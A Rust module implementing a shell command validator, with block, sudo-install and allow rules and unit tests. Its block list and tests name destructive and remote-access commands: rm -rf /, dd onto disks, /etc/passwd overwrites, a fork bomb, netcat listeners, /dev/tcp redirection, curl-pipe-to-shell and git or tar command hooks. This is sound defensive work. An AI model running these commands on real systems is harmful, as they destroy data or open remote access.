//! Rule-based command validation.
//!
//! Rules live in one ordered table. Precedence is part of each rule and the
//! table is sorted on construction, so the evaluation order never depends on
//! how the table was assembled:
//!
//! 1. `Block` rules scan the whole raw string and every segment with its
//!    quoting and escapes removed, so `rm -rf "/"` reads as `rm -rf /`.
//!    Any match denies.
//! 2. Structural checks reject what the rules cannot see through:
//!    substitutions, background jobs, unparseable input and interpreters
//!    that would take their program from stdin.
//! 3. Each chained segment must then be approved, by a `Privileged` rule if it
//!    starts with `sudo`, otherwise by an `Allow` rule. Unmatched segments are
//!    denied.

use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};

use super::command::{Command, Segment};

/// Outcome of validating one command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ValidationDecision {
    pub allowed: bool,
    pub reason: String,
    /// Id of the rule that decided, if one did.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub rule: Option<String>,
}

impl ValidationDecision {
    fn allow(reason: impl Into<String>, rule: Option<&str>) -> Self {
        Self {
            allowed: true,
            reason: reason.into(),
            rule: rule.map(str::to_string),
        }
    }

    fn deny(reason: impl Into<String>, rule: Option<&str>) -> Self {
        Self {
            allowed: false,
            reason: reason.into(),
            rule: rule.map(str::to_string),
        }
    }
}

/// Evaluation tier. Lower tiers are evaluated first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Precedence {
    Block,
    Privileged,
    Allow,
}

/// What a rule's pattern is matched against.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleTarget {
    /// The complete raw command string, and each segment's dequoted argv.
    Raw,
    /// The argv of a segment without `sudo`, joined by spaces.
    Segment,
    /// The argv following `sudo`, joined by spaces.
    PrivilegedSegment,
}

#[derive(Debug, Clone)]
pub struct Rule {
    pub id: &'static str,
    pub precedence: Precedence,
    pub target: RuleTarget,
    pub pattern: Regex,
    pub reason: &'static str,
}

impl Rule {
    /// A blocklist rule matched against the whole raw string.
    pub fn block(id: &'static str, pattern: &str, reason: &'static str) -> Self {
        Self::new(id, Precedence::Block, RuleTarget::Raw, pattern, reason)
    }

    /// A blocklist rule matched against each segment's argv, after `sudo`.
    /// Anchor the pattern with `^` to match the program position only.
    pub fn block_segment(id: &'static str, pattern: &str, reason: &'static str) -> Self {
        Self::new(id, Precedence::Block, RuleTarget::Segment, pattern, reason)
    }

    /// A rule approving one privileged (`sudo`) invocation.
    pub fn privileged(id: &'static str, pattern: &str, reason: &'static str) -> Self {
        Self::new(
            id,
            Precedence::Privileged,
            RuleTarget::PrivilegedSegment,
            pattern,
            reason,
        )
    }

    /// A rule approving segments whose program is one of `programs`.
    pub fn allow(id: &'static str, programs: &[&str], reason: &'static str) -> Self {
        let alternation = programs
            .iter()
            .map(|p| regex::escape(p))
            .collect::<Vec<_>>()
            .join("|");
        Self::new(
            id,
            Precedence::Allow,
            RuleTarget::Segment,
            &format!(r"^(?:{alternation})(?:\s|$)"),
            reason,
        )
    }

    fn new(
        id: &'static str,
        precedence: Precedence,
        target: RuleTarget,
        pattern: &str,
        reason: &'static str,
    ) -> Self {
        Self {
            id,
            precedence,
            target,
            pattern: Regex::new(pattern).expect("built-in rule pattern must compile"),
            reason,
        }
    }
}

static DEFAULT_RULES: Lazy<Vec<Rule>> = Lazy::new(|| {
    let mut rules = allow_rules();
    rules.extend(privileged_rules());
    rules.extend(block_rules());
    rules
});

/// Destructive, exfiltrating and escape patterns. Any match denies.
fn block_rules() -> Vec<Rule> {
    vec![
        Rule::block(
            "rm-root",
            r"\brm\s+(?:[^\s;&|]+\s+)*?(?:/[/.]*\*?|~/?\*?|\$\{?HOME\}?/?\*?|\*)(?:\s|$|[;&|])",
            "removal of the root, home or wildcard target",
        ),
        Rule::block(
            "dd-device",
            r"\bdd\b[^;&|]*\b(?:if|of)=/dev/",
            "raw device read or write with dd",
        ),
        Rule::block("mkfs", r"\bmkfs(?:\.[a-z0-9]+)?\b", "filesystem creation"),
        Rule::block(
            "partition-tools",
            r"\b(?:fdisk|sfdisk|cfdisk|parted|wipefs|mkswap|blkdiscard)\b",
            "partition table or device signature modification",
        ),
        Rule::block(
            "device-redirect",
            r"(?:>\s*|\btee\s+(?:[^\s;&|]+\s+)*?)/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|mapper|dm-|md)",
            "write onto a block device",
        ),
        Rule::block(
            "auth-files",
            r">\s*/etc/(?:passwd|shadow|group|gshadow|sudoers)\b",
            "overwrite of system authentication files",
        ),
        Rule::block(
            "chmod-unsafe",
            r"\bchmod\s+(?:-\S+\s+)*(?:0?777|[ugoa]*\+[rwx]*s[rwx]*)(?:\s|$)",
            "world-writable or setuid permission change",
        ),
        Rule::block(
            "ownership-root",
            r"\bch(?:own|mod|grp)\s+(?:-\S+\s+)*\S+\s+/[/.]*(?:\s|$|[;&|])",
            "ownership or permission change on /",
        ),
        Rule::block(
            "netcat-listener",
            r"\b(?:nc|ncat|netcat)\b[^;&|]*\s-[a-zA-Z]*[le]",
            "network listener or remote shell",
        ),
        Rule::block("socat", r"\bsocat\b", "arbitrary socket relay"),
        Rule::block(
            "port-scanner",
            r"\b(?:nmap|masscan|zmap|hping3?)\b",
            "port scanning",
        ),
        Rule::block("dev-tcp", r"/dev/(?:tcp|udp)/", "shell network redirection"),
        Rule::block(
            "shell-escape",
            r"\b(?:sh|bash|zsh|dash|ksh|fish|csh|tcsh)\s+(?:-\S+\s+)*-[a-zA-Z]*c\b",
            "shell escape executing inline code",
        ),
        Rule::block_segment("eval", r"^eval(?:\s|$)", "evaluation of constructed code"),
        Rule::block(
            "inline-interpreter",
            r"\b(?:python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby|node|nodejs|php|lua)\s+(?:-\S+\s+)*(?:-[a-zA-Z]*[ecrEpx]\b|--(?:eval|print)\b)",
            "interpreter running inline code",
        ),
        Rule::block(
            "git-config-exec",
            r"(?i)\bgit\b[^;&|]*\s-c\s*(?:alias\.[^=\s]*=\s*!|core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy|askpass)=|credential\.(?:[^=\s]*\.)?helper=|[^=\s]*\.(?:command|textconv|process|clean|smudge)=)",
            "git configuration that runs a command",
        ),
        Rule::block(
            "tar-exec",
            r"\btar\b[^;&|]*\s(?:--(?:checkpoint-action|to-command|use-compress-program|info-script|new-volume-script|rsh-command)\b|-[A-Za-z]*[IF])",
            "tar option that runs a command",
        ),
        Rule::block(
            "find-exec",
            r"\bfind\b[^;&|]*\s-(?:exec|execdir|ok|okdir|delete)\b",
            "find executing commands or deleting files",
        ),
        Rule::block(
            "pipe-to-shell",
            r"\b(?:curl|wget)\b[^;&]*\|\s*(?:sudo\s+)?(?:sh|bash|zsh|dash|ksh|python[0-9.]*|perl)\b",
            "remote script piped into an interpreter",
        ),
        Rule::block(
            "base64-pipe",
            r"\bbase64\s+(?:-\S+\s+)*(?:-d|--decode)\b[^;&]*\|",
            "decoded payload piped into another command",
        ),
        Rule::block("fork-bomb", r":\s*\(\s*\)\s*\{", "fork bomb"),
        Rule::block(
            "power-state",
            r"\b(?:shutdown|reboot|halt|poweroff)\b|\binit\s+[06]\b",
            "system power state change",
        ),
        Rule::block(
            "kill-all",
            r"\bkill\s+(?:-\S+\s+)*-1\b",
            "signal sent to every process",
        ),
    ]
}

/// Install verbs of package managers, the only approved `sudo` uses.
fn privileged_rules() -> Vec<Rule> {
    vec![
        Rule::privileged(
            "sudo-apt-install",
            r"^(?:apt-get|apt)\s+(?:-\S+\s+)*install(?:\s|$)",
            "apt package installation",
        ),
        Rule::privileged(
            "sudo-pip-install",
            r"^(?:pip3?|python3?\s+-m\s+pip)\s+install(?:\s|$)",
            "pip package installation",
        ),
        Rule::privileged(
            "sudo-dnf-install",
            r"^(?:dnf|yum)\s+(?:-\S+\s+)*install(?:\s|$)",
            "dnf package installation",
        ),
        Rule::privileged(
            "sudo-snap-install",
            r"^snap\s+install(?:\s|$)",
            "snap package installation",
        ),
        Rule::privileged(
            "sudo-dpkg-install",
            r"^dpkg\s+(?:-i|--install)(?:\s|$)",
            "local package installation",
        ),
        Rule::privileged(
            "sudo-npm-global-install",
            r"^npm\s+(?:install|i)\s+(?:\S+\s+)*(?:-g|--global)(?:\s|$)",
            "global npm package installation",
        ),
    ]
}

/// Base commands a segment may start with.
fn allow_rules() -> Vec<Rule> {
    vec![
        Rule::allow(
            "informational",
            &[
                "echo", "printf", "cat", "head", "tail", "less", "ls", "pwd", "whoami", "id",
                "date", "uname", "hostname", "uptime", "df", "du", "free", "wc", "sort", "uniq",
                "grep", "egrep", "fgrep", "find", "which", "whereis", "file", "stat", "printenv",
                "true", "false", "sleep", "basename", "dirname", "realpath", "readlink", "diff",
                "cmp", "tr", "cut", "seq", "column", "nproc", "md5sum", "sha1sum", "sha256sum",
                "test",
            ],
            "informational utility",
        ),
        Rule::allow(
            "file-utilities",
            &["mkdir", "touch", "cp", "mv", "rm", "ln", "chmod", "tee"],
            "file utility",
        ),
        Rule::allow(
            "archives",
            &["tar", "gzip", "gunzip", "zip", "unzip", "xz", "bzip2"],
            "archive utility",
        ),
        Rule::allow(
            "build-tools",
            &[
                "git", "make", "cmake", "gcc", "g++", "cc", "clang", "rustc", "cargo", "go",
                "javac", "java",
            ],
            "build tool",
        ),
        Rule::allow(
            "package-managers",
            &[
                "apt", "apt-get", "apt-cache", "dpkg", "dpkg-query", "pip", "pip3", "npm", "npx",
                "yarn", "gem", "snap",
            ],
            "package manager",
        ),
        Rule::allow(
            "interpreters",
            &["python", "python3", "node", "ruby", "perl"],
            "interpreter without inline code",
        ),
        Rule::allow("network-fetch", &["curl", "wget"], "download utility"),
    ]
}

/// Immutable, precedence-ordered rule table.
#[derive(Debug, Clone)]
pub struct RuleEngine {
    rules: Vec<Rule>,
}

impl Default for RuleEngine {
    fn default() -> Self {
        Self::with_rules(DEFAULT_RULES.clone())
    }
}

impl RuleEngine {
    pub fn new() -> Self {
        Self::default()
    }

    /// Build an engine from an arbitrary rule list. The list is stably sorted
    /// by precedence, so rules of the same tier keep their relative order.
    pub fn with_rules(mut rules: Vec<Rule>) -> Self {
        rules.sort_by_key(|r| r.precedence);
        Self { rules }
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    pub fn validate_str(&self, raw: &str) -> ValidationDecision {
        self.validate(&Command::parse(raw))
    }

    pub fn validate(&self, command: &Command) -> ValidationDecision {
        if command.is_empty() {
            return ValidationDecision::deny("empty command", None);
        }

        if let Some(rule) = self.blocked_by(command) {
            return ValidationDecision::deny(
                format!("{} (blocklist rule '{}')", rule.reason, rule.id),
                Some(rule.id),
            );
        }

        if let Some(err) = command.parse_error() {
            return ValidationDecision::deny(format!("unparseable command: {}", err), None);
        }
        if let Some(sub) = command.substitutions().first() {
            return ValidationDecision::deny(
                format!("command substitution {} cannot be validated", sub.as_str()),
                None,
            );
        }
        if command.runs_in_background() {
            return ValidationDecision::deny("background execution is not permitted", None);
        }
        if command.is_privileged() && command.is_chained() {
            return ValidationDecision::deny("privileged commands cannot be chained", None);
        }

        let mut approvals = Vec::with_capacity(command.segments().len());
        for segment in command.segments() {
            if let Some(denied) = interpreter_reads_stdin(segment) {
                return denied;
            }
            match self.approve_segment(segment) {
                Ok(rule) => approvals.push(rule),
                Err(denied) => return denied,
            }
        }

        let reason = approvals
            .iter()
            .map(|r| format!("{} ({})", r.reason, r.id))
            .collect::<Vec<_>>()
            .join(", ");
        ValidationDecision::allow(
            format!("allowed: {}", reason),
            approvals.first().map(|r| r.id),
        )
    }

    pub fn is_allowed(&self, raw: &str) -> bool {
        self.validate_str(raw).allowed
    }

    fn tier(&self, precedence: Precedence) -> impl Iterator<Item = &Rule> {
        self.rules.iter().filter(move |r| r.precedence == precedence)
    }

    /// First block rule matching the raw string or a dequoted segment.
    fn blocked_by(&self, command: &Command) -> Option<&Rule> {
        let mut dequoted = vec![command.raw().to_string()];
        let mut leading = Vec::with_capacity(command.segments().len());
        for segment in command.segments() {
            let effective = segment.effective_argv().join(" ");
            dequoted.push(segment.argv().join(" "));
            if segment.is_sudo() {
                dequoted.push(effective.clone());
            }
            leading.push(effective);
        }

        self.tier(Precedence::Block).find(|rule| {
            let views = match rule.target {
                RuleTarget::Raw => &dequoted,
                RuleTarget::Segment | RuleTarget::PrivilegedSegment => &leading,
            };
            views.iter().any(|v| rule.pattern.is_match(v))
        })
    }

    fn approve_segment(&self, segment: &Segment) -> Result<&Rule, ValidationDecision> {
        if segment.is_sudo() {
            let rest = segment.effective_argv();
            let Some(first) = rest.first() else {
                return Err(ValidationDecision::deny("sudo without a command", None));
            };
            if first.starts_with('-') {
                return Err(ValidationDecision::deny(
                    format!("sudo option '{}' is not permitted", first),
                    None,
                ));
            }
            let joined = rest.join(" ");
            return self
                .tier(Precedence::Privileged)
                .find(|r| r.pattern.is_match(&joined))
                .ok_or_else(|| {
                    ValidationDecision::deny(
                        format!(
                            "privileged invocation '{}' is not an approved package installation",
                            joined
                        ),
                        None,
                    )
                });
        }

        let joined = segment.argv().join(" ");
        self.tier(Precedence::Allow)
            .find(|r| r.pattern.is_match(&joined))
            .ok_or_else(|| {
                ValidationDecision::deny(
                    format!(
                        "'{}' is not in the allowed command set",
                        segment.program().unwrap_or_default()
                    ),
                    None,
                )
            })
    }
}

static INTERPRETER: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"^(?:python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|deno|bun)$")
        .expect("interpreter pattern must compile")
});

const STDIN_PATHS: &[&str] = &["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];

/// Deny an interpreter whose program would come from stdin: a pipe, a
/// here-document or here-string, or an explicit stdin path.
fn interpreter_reads_stdin(segment: &Segment) -> Option<ValidationDecision> {
    let argv = segment.effective_argv();
    let program = argv.first()?;
    let name = program.rsplit('/').next().unwrap_or(program);
    if !INTERPRETER.is_match(name) {
        return None;
    }

    let source = if segment.reads_pipe() {
        "a pipe"
    } else if argv[1..].iter().any(|a| a.contains("<<")) {
        "a here-document"
    } else if argv[1..].iter().any(|a| STDIN_PATHS.contains(&a.as_str())) {
        "an explicit stdin path"
    } else {
        return None;
    };
    Some(ValidationDecision::deny(
        format!("{} would read its program from standard input via {}", name, source),
        None,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine() -> RuleEngine {
        RuleEngine::default()
    }

    fn denied_by(raw: &str) -> Option<String> {
        let decision = engine().validate_str(raw);
        assert!(!decision.allowed, "expected '{}' to be blocked", raw);
        assert!(!decision.reason.is_empty());
        decision.rule
    }

    #[test]
    fn table_is_sorted_by_precedence() {
        let engine = engine();
        let tiers: Vec<_> = engine.rules().iter().map(|r| r.precedence).collect();
        let mut sorted = tiers.clone();
        sorted.sort();
        assert_eq!(tiers, sorted);
        assert_eq!(engine.rules()[0].precedence, Precedence::Block);
    }

    #[test]
    fn with_rules_reorders_regardless_of_input_order() {
        let engine = RuleEngine::with_rules(vec![
            Rule::allow("any-rm", &["rm"], "file utility"),
            Rule::block("no-secret", r"secret", "secret path"),
        ]);
        assert_eq!(engine.rules()[0].id, "no-secret");
        assert!(!engine.is_allowed("rm secret.txt"));
        assert!(engine.is_allowed("rm notes.txt"));
    }

    #[test]
    fn benign_commands_are_allowed() {
        for cmd in [
            "echo test",
            "ls -la",
            "git --version",
            "python3 --version",
            "node --version",
        ] {
            let decision = engine().validate_str(cmd);
            assert!(decision.allowed, "{}: {}", cmd, decision.reason);
            assert!(decision.rule.is_some());
        }
    }

    #[test]
    fn pipelines_require_every_segment() {
        assert!(engine().is_allowed("cat README.md | grep cortex | wc -l"));
        assert!(engine().is_allowed("mkdir -p build && ls build; pwd"));
        let decision = engine().validate_str("ls && xargs rm");
        assert!(!decision.allowed);
        assert!(decision.reason.contains("xargs"));
    }

    #[test]
    fn destructive_commands_are_blocked() {
        assert_eq!(denied_by("rm -rf /").as_deref(), Some("rm-root"));
        assert_eq!(denied_by("rm -rf ~").as_deref(), Some("rm-root"));
        assert_eq!(denied_by("rm -rf $HOME/").as_deref(), Some("rm-root"));
        assert_eq!(denied_by("rm -rf /*").as_deref(), Some("rm-root"));
        assert_eq!(
            denied_by("dd if=/dev/zero of=/dev/sda").as_deref(),
            Some("dd-device")
        );
        assert_eq!(denied_by("mkfs.ext4 /dev/sda1").as_deref(), Some("mkfs"));
        assert_eq!(
            denied_by("echo x > /dev/sda").as_deref(),
            Some("device-redirect")
        );
        assert_eq!(
            denied_by("echo root::0:0 > /etc/passwd").as_deref(),
            Some("auth-files")
        );
        assert_eq!(denied_by("chmod 777 notes").as_deref(), Some("chmod-unsafe"));
        assert_eq!(denied_by("chmod u+s tool").as_deref(), Some("chmod-unsafe"));
        assert_eq!(
            denied_by("chown -R nobody /").as_deref(),
            Some("ownership-root")
        );
        assert_eq!(denied_by(":(){ :|:& };:").as_deref(), Some("fork-bomb"));
        assert_eq!(denied_by("shutdown -h now").as_deref(), Some("power-state"));
        assert_eq!(denied_by("kill -9 -1").as_deref(), Some("kill-all"));
    }

    #[test]
    fn blocklist_wins_over_allow_set() {
        // `rm` is in the allow set, the blocklist still decides.
        assert_eq!(denied_by("sudo rm -rf /").as_deref(), Some("rm-root"));
        assert_eq!(
            denied_by("ls && rm -rf /").as_deref(),
            Some("rm-root")
        );
    }

    #[test]
    fn scoped_removal_is_allowed() {
        assert!(engine().is_allowed("rm -rf build/tmp"));
        assert!(engine().is_allowed("rm -rf /tmp/cortex-scratch"));
        assert!(engine().is_allowed("chmod 755 script.sh"));
    }

    #[test]
    fn listeners_scanners_and_escapes_are_blocked() {
        assert_eq!(
            denied_by("nc -l 4444").as_deref(),
            Some("netcat-listener")
        );
        assert_eq!(
            denied_by("ncat -lvp 4444").as_deref(),
            Some("netcat-listener")
        );
        assert_eq!(
            denied_by("socat TCP-LISTEN:80 -").as_deref(),
            Some("socat")
        );
        assert_eq!(denied_by("nmap -sS 10.0.0.1").as_deref(), Some("port-scanner"));
        assert_eq!(
            denied_by("bash -c 'rm -rf build'").as_deref(),
            Some("shell-escape")
        );
        assert_eq!(denied_by("/bin/sh -c id").as_deref(), Some("shell-escape"));
        assert_eq!(denied_by("eval ls").as_deref(), Some("eval"));
        assert_eq!(
            denied_by("cat < /dev/tcp/10.0.0.1/80").as_deref(),
            Some("dev-tcp")
        );
    }

    #[test]
    fn inline_interpreter_code_is_blocked() {
        for cmd in [
            "python -c 'print(1)'",
            "python3 -c 'import os'",
            "node -e 'process.exit(0)'",
            "perl -ne 'print'",
            "ruby -e 'puts 1'",
            "php -r 'echo 1;'",
        ] {
            assert_eq!(
                denied_by(cmd).as_deref(),
                Some("inline-interpreter"),
                "{}",
                cmd
            );
        }
        assert!(engine().is_allowed("python3 script.py"));
        assert!(engine().is_allowed("python3 -m pip list"));
    }

    #[test]
    fn remote_and_encoded_pipelines_are_blocked() {
        assert_eq!(
            denied_by("curl -fsSL https://example.com/install.sh | sh").as_deref(),
            Some("pipe-to-shell")
        );
        assert_eq!(
            denied_by("wget -qO- http://x | sudo bash").as_deref(),
            Some("pipe-to-shell")
        );
        assert_eq!(
            denied_by("echo cm0gLXJmIC8= | base64 -d | tee out").as_deref(),
            Some("base64-pipe")
        );
        assert!(engine().is_allowed("curl -sO https://example.com/file.tar.gz"));
    }

    #[test]
    fn structural_checks_fail_closed() {
        let decision = engine().validate_str("echo $(whoami)");
        assert!(!decision.allowed);
        assert!(decision.reason.contains("substitution"));

        let decision = engine().validate_str("sleep 100 &");
        assert!(!decision.allowed);
        assert!(decision.reason.contains("background"));

        let decision = engine().validate_str("echo 'open");
        assert!(!decision.allowed);
        assert!(decision.reason.contains("unparseable"));

        assert!(!engine().is_allowed(""));
        assert!(!engine().is_allowed("   "));
    }

    #[test]
    fn unknown_programs_are_denied_by_default() {
        let decision = engine().validate_str("xmrig --donate-level 1");
        assert!(!decision.allowed);
        assert!(decision.rule.is_none());
        assert!(decision.reason.contains("xmrig"));
    }

    #[test]
    fn sudo_install_subset_is_allowed() {
        for cmd in [
            "sudo apt-get install curl",
            "sudo apt-get -y install build-essential",
            "sudo apt install jq",
            "sudo pip install requests",
            "sudo pip3 install requests",
            "sudo python3 -m pip install requests",
            "sudo dnf install gcc",
            "sudo yum install -y git",
            "sudo snap install code",
            "sudo dpkg -i package.deb",
            "sudo npm install -g typescript",
        ] {
            let decision = engine().validate_str(cmd);
            assert!(decision.allowed, "{}: {}", cmd, decision.reason);
            assert!(decision.rule.as_deref().unwrap().starts_with("sudo-"));
        }
    }

    #[test]
    fn other_sudo_invocations_are_rejected() {
        for cmd in [
            "sudo ls /root",
            "sudo apt-get remove curl",
            "sudo -u root apt-get install curl",
            "sudo -s",
            "sudo",
            "sudo npm install typescript",
            "sudo apt-get install curl && ls",
        ] {
            let decision = engine().validate_str(cmd);
            assert!(!decision.allowed, "{} should be rejected", cmd);
        }
    }

    #[test]
    fn quoting_and_escapes_do_not_hide_blocked_commands() {
        for cmd in [
            r#"rm -rf "/""#,
            "rm -rf '/'",
            r"r\m -rf /",
            r"rm -rf \/",
            "rm -rf /.",
            "rm -rf //",
            "rm -rf build /",
            r#"rm -rf "$HOME""#,
            "rm -rf ${HOME}",
            "rm -rf ~/*",
        ] {
            assert_eq!(denied_by(cmd).as_deref(), Some("rm-root"), "{}", cmd);
        }
        assert_eq!(
            denied_by(r#"echo x > "/dev/sda""#).as_deref(),
            Some("device-redirect")
        );
        assert_eq!(
            denied_by("echo x | tee /dev/nvme0n1").as_deref(),
            Some("device-redirect")
        );
        assert_eq!(
            denied_by(r#""mkfs.ext4" /dev/sda1"#).as_deref(),
            Some("mkfs")
        );
        assert_eq!(
            denied_by("b'a'sh -c id").as_deref(),
            Some("shell-escape")
        );
        assert!(engine().is_allowed("rm -rf ./build"));
    }

    #[test]
    fn sudo_permission_change_on_root_is_blocked() {
        let decision = engine().validate_str("sudo chmod 777 /");
        assert!(!decision.allowed);
        assert_eq!(decision.rule.as_deref(), Some("chmod-unsafe"));
        assert_eq!(
            denied_by("sudo chown -R nobody //").as_deref(),
            Some("ownership-root")
        );
    }

    #[test]
    fn eval_is_blocked_only_in_program_position() {
        assert_eq!(denied_by("eval ls").as_deref(), Some("eval"));
        assert_eq!(denied_by("ls && eval x").as_deref(), Some("eval"));
        assert_eq!(denied_by("'eval' ls").as_deref(), Some("eval"));
        assert!(engine().is_allowed("grep eval src/main.py"));
        assert!(engine().is_allowed("git log --grep=eval"));
        assert!(engine().is_allowed("cat docs/eval.md"));
    }

    #[test]
    fn interpreter_code_from_stdin_is_denied() {
        for cmd in [
            "echo 'import os; os.system(\"id\")' | python3",
            "cat payload.txt | perl",
            "echo x | node script.js",
            "python3 - <<< 'import os'",
            "python3 <<EOF",
            "ruby /dev/stdin",
            "python3 /proc/self/fd/0",
        ] {
            let decision = engine().validate_str(cmd);
            assert!(!decision.allowed, "{} should be denied", cmd);
            assert!(
                decision.reason.contains("standard input"),
                "{}: {}",
                cmd,
                decision.reason
            );
        }
        assert!(engine().is_allowed("python3 script.py | grep ok"));
    }

    #[test]
    fn every_inline_code_flag_is_blocked() {
        for cmd in [
            "perl -E 'say 1'",
            "perl -x script.txt",
            "node -p 'process.env'",
            "node --eval 'process.exit(1)'",
            "node --print 1",
            "python3 -Ic 'import os'",
        ] {
            assert_eq!(
                denied_by(cmd).as_deref(),
                Some("inline-interpreter"),
                "{}",
                cmd
            );
        }
    }

    #[test]
    fn git_and_tar_command_hooks_are_blocked() {
        for cmd in [
            "git -c alias.x='!id' x",
            "git -c core.sshCommand=id fetch",
            "git -c core.pager=id log",
            "git -c diff.x.textconv=id diff",
            "git -c credential.helper='!id' push",
        ] {
            assert_eq!(
                denied_by(cmd).as_deref(),
                Some("git-config-exec"),
                "{}",
                cmd
            );
        }
        for cmd in [
            "tar -cf out.tar src --checkpoint=1 --checkpoint-action=exec=id",
            "tar -xf in.tar --to-command=id",
            "tar -I unpack-helper -xf in.tar",
            "tar --use-compress-program=id -cf out.tar src",
        ] {
            assert_eq!(denied_by(cmd).as_deref(), Some("tar-exec"), "{}", cmd);
        }
        assert!(engine().is_allowed("git -c user.name=cortex commit -m wip"));
        assert!(engine().is_allowed("tar -czf out.tar.gz src"));
    }

    #[test]
    fn quoted_operators_do_not_split() {
        assert!(engine().is_allowed("echo 'a && b' \"c; d\""));
        assert!(engine().is_allowed("make 2>&1"));
    }
}
